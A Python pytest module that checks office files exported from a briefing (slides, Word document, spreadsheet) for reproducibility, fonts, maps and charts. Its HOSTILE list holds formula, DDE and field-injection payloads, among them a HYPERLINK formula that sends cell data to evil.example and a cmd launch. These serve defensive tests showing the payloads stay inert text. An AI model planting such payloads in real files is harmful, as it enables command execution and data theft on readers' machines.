"""Office files as files: nothing of a person's text is run, the same bytes each time, fonts that every office has."""

from __future__ import annotations

import hashlib
import io
import itertools
import re
import zipfile
from datetime import UTC, datetime
from typing import Any

import pytest
from lxml import etree
from pptx import Presentation

from export.briefing import docx, pptx
from export.briefing.document import HEAD_FONT, SOFT_FONT, TABLE_FONT, TEXT_FONT, TITLE_FONT
from export.briefing.ooxml import FONT, clean, normalise
from export.briefing.picture import Picture, map_picture
from tests.conftest import Published
from tests.export.briefing_files import MAKERS, TEXTS, parts, tiny_view, with_texts
from views.briefing.model import BriefingView

KINDS = ["pptx", "docx", "xlsx"]
A = "{http://schemas.openxmlformats.org/drawingml/2006/main}"
W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"

# What a spreadsheet, a mail program or an office suite has once run or followed.
HOSTILE = (
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r\n=1+1",
    "＝１＋１",
    '=HYPERLINK("http://evil.example/?"&A1,"看")',
    "http://evil.example/x",
    "mailto:a@evil.example",
    "internal:'指标'!A1",
    "external:\\\\evil.example\\share\\x.xlsx",
    "{=1+1}",
    '=DDE("cmd";"/C calc";"x")',
    "_x003D_1+1",
    "<script>alert(1)</script>&amp;\"'",
    "]]><a:t>",
    '{ MERGEFIELD x } { INCLUDETEXT "http://evil.example" }',
    "\x00\x07\x1b[2J\ud800",
    "合计\u202e321\u202c",
    "&L&G&Z&F",
    "长" * 400,
)


@pytest.fixture(scope="module")
def view(published: Published) -> BriefingView:
    return tiny_view(published)[1]


@pytest.fixture(scope="module")
def picture(view: BriefingView) -> Picture:
    return map_picture(view, 160.0, 140.0)


@pytest.fixture
def quick(monkeypatch: pytest.MonkeyPatch, picture: Picture) -> None:
    """One map for all files: what it looks like is tested elsewhere."""
    for module in (pptx, docx):
        monkeypatch.setattr(module, "map_picture", lambda *_, **__: picture)


def made_hostile(view: BriefingView, words: tuple[str, ...]) -> BriefingView:
    """The briefing with a hostile text in the place of every text of it, and before every figure."""
    turns = itertools.cycle(words)
    return with_texts(view, lambda text: next(turns) + (text if text[:1].isdigit() else ""))  # type: ignore[no-any-return]


@pytest.fixture
def hostile(view: BriefingView) -> BriefingView:
    return made_hostile(view, HOSTILE)


@pytest.mark.usefixtures("quick")
@pytest.mark.parametrize("kind", KINDS)
def test_hostile_text_stays_text(kind: str, hostile: BriefingView) -> None:
    data = MAKERS[kind](hostile)
    for name, part in parts(data):
        if not name.endswith((".xml", ".rels")):
            continue
        tree = etree.fromstring(part)
        tags = {etree.QName(element).localname for element in tree.iter() if isinstance(element.tag, str)}
        assert not tags & {"hyperlink", "hlinkClick", "hlinkHover", "fldSimple", "oleObj", "control"}, name
        assert "script" not in tags
        assert not tree.findall(".//{*}c/{*}f"), f"a formula in {name}"
        if name.endswith(".rels"):
            assert not [r for r in tree if r.get("TargetMode") == "External"], name
        fields = [element.text for element in tree.iter(f"{W}instrText")]
        assert all(text == " PAGE " for text in fields), name
    found = "\n".join(TEXTS[kind](data))
    for text in HOSTILE:
        assert clean(text)[:40] in found, text


@pytest.mark.usefixtures("quick")
@pytest.mark.parametrize("kind", KINDS)
def test_the_same_briefing_gives_the_same_bytes_at_any_time(
    kind: str, view: BriefingView, monkeypatch: pytest.MonkeyPatch
) -> None:
    first = MAKERS[kind](view)
    # Ten years on; the libraries ask the clock in more than one way.
    monkeypatch.setattr("time.time", lambda: 2_095_000_000.0)
    later = MAKERS[kind](view)
    assert hashlib.sha256(first).hexdigest() == hashlib.sha256(later).hexdigest()
    made = view.provenance.published_at.astimezone(UTC)
    for name, part in parts(first):
        if name.endswith("core.xml"):
            stamps = re.findall(rb"<dcterms:\w+[^>]*>([^<]+)", part)
            assert set(stamps) == {made.strftime("%Y-%m-%dT%H:%M:%SZ").encode()}, name
    with zipfile.ZipFile(io.BytesIO(first)) as archive:
        assert {entry.date_time for entry in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        assert archive.namelist()[0] == "[Content_Types].xml"


def test_normalised_twice_is_normalised_once(view: BriefingView) -> None:
    data = MAKERS["xlsx"](view)
    assert normalise(data, view.provenance.published_at) == data
    assert normalise(data, datetime(2020, 1, 1)) != data


@pytest.mark.usefixtures("quick")
def test_slides_name_one_font_for_every_script(view: BriefingView) -> None:
    for name, part in parts(pptx.make(view)):
        if not re.match(r"ppt/(slides|charts|theme)/[^/]+\.xml", name):
            continue
        tree = etree.fromstring(part)
        for run in tree.iterfind(f".//{A}r/{A}rPr"):
            faces = [run.find(f"{A}{script}") for script in ("latin", "ea", "cs")]
            assert all(face is not None and face.get("typeface") == FONT for face in faces), name
        for fonts in (*tree.iter(f"{A}majorFont"), *tree.iter(f"{A}minorFont")):
            assert fonts.find(f"{A}ea").get("typeface") == FONT, name


@pytest.mark.usefixtures("quick")
def test_the_bulletin_names_fonts_with_stand_ins(view: BriefingView) -> None:
    book = dict(parts(docx.make(view)))
    ours = {TITLE_FONT, HEAD_FONT, TEXT_FONT, TABLE_FONT, SOFT_FONT}
    named = {
        fonts.get(f"{W}eastAsia")
        for fonts in etree.fromstring(book["word/document.xml"]).iter(f"{W}rFonts")
        if fonts.get(f"{W}eastAsia")
    }
    assert named <= ours
    table = etree.fromstring(book["word/fontTable.xml"])
    stand_ins = {font.get(f"{W}name"): font.find(f"{W}altName") for font in table}
    assert all(stand_ins[name] is not None for name in ours)


@pytest.mark.usefixtures("quick")
def test_maps_are_vectors_with_pixels_behind_them(view: BriefingView, picture: Picture) -> None:
    made = picture
    tree = etree.fromstring(made.svg)
    tags = {etree.QName(element).localname for element in tree.iter()}
    assert "text" not in tags and "image" not in tags, "letters are shapes, nothing is fetched"
    assert not re.search(rb"(href|url\()\s*=?\s*['\"]?\s*(http|data)", made.svg)
    assert made.png.startswith(b"\x89PNG")
    for kind in ("pptx", "docx"):
        book = dict(parts(MAKERS[kind](view)))
        svgs = [name for name in book if name.endswith(".svg")]
        pages = [part for name, part in book.items() if re.search(r"(slide\d+|document)\.xml$", name)]
        assert len(svgs) == 1 and sum(b"svgBlip" in part for part in pages) == 1
        assert b'Extension="svg"' in book["[Content_Types].xml"] or b".svg" in book["[Content_Types].xml"]


@pytest.mark.usefixtures("quick")
def test_charts_are_native_and_their_workbooks_hold_their_figures(view: BriefingView) -> None:
    deck = Presentation(io.BytesIO(pptx.make(view)))
    charts = [shape for slide in deck.slides for shape in slide.shapes if getattr(shape, "has_chart", False)]
    assert len(charts) >= 3
    received = {c.value for c in view.months.column("received")}
    months = next(shape.chart for shape in charts if shape.name == "months.chart")
    assert set(months.plots[0].series[-1].values) == received
    document = dict(parts(docx.make(view)))
    assert len([n for n in document if re.fullmatch(r"word/charts/chart\d\.xml", n)]) == 2
    for workbook in (months.part.chart_workbook.xlsx_part.blob, document["word/embeddings/chart1.xlsx"]):
        sheet = etree.fromstring(dict(parts(workbook))["xl/worksheets/sheet1.xml"])
        numbers = {float(v.text) for v in sheet.iter("{*}v") if v.getparent().get("t") != "s"}
        assert received <= numbers


@pytest.mark.usefixtures("quick")
def test_nothing_stands_outside_a_slide(view: BriefingView) -> None:
    # But for a word of 400 characters in a column of figures: such a row has no better place.
    for each in (view, made_hostile(view, HOSTILE[:-1])):
        deck: Any = Presentation(io.BytesIO(pptx.make(each)))
        for number, slide in enumerate(deck.slides, start=1):
            assert slide.shapes.title.text_frame.text, number
            for shape in slide.shapes:
                assert shape.left >= 0 and shape.top >= 0, (number, shape.name)
                assert shape.left + shape.width <= deck.slide_width + 10, (number, shape.name)
                assert shape.top + shape.height <= deck.slide_height + 10, (number, shape.name)
